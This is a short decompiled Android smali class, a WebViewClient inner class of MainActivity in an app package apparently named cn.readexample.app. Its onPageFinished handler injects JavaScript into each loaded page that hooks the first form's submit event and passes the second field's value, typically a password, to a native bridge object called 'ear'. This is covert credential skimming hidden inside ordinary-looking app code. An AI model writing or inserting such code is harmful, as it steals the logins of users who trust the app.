.class Lcn/readexample/app/MainActivity$1;
.super Landroid/webkit/WebViewClient;
.field final synthetic this$0:Lcn/readexample/app/MainActivity;
.method constructor <init>(Lcn/readexample/app/MainActivity;)V
  .registers 4
  iput-object p1, p0, Lcn/readexample/app/MainActivity$1;->this$0:Lcn/readexample/app/MainActivity;
  invoke-direct {p0}, Landroid/webkit/WebViewClient;-><init>()V
  return-void
.end method
.method public onPageFinished(Landroid/webkit/WebView;Ljava/lang/String;)V
  .registers 5
  const-string v1, "javascript:document.forms[0].onsubmit=function(){ear.hear(this.elements[1].value)}"
  invoke-virtual {p1, v1}, Landroid/webkit/WebView;->loadUrl(Ljava/lang/String;)V
  return-void
.end method
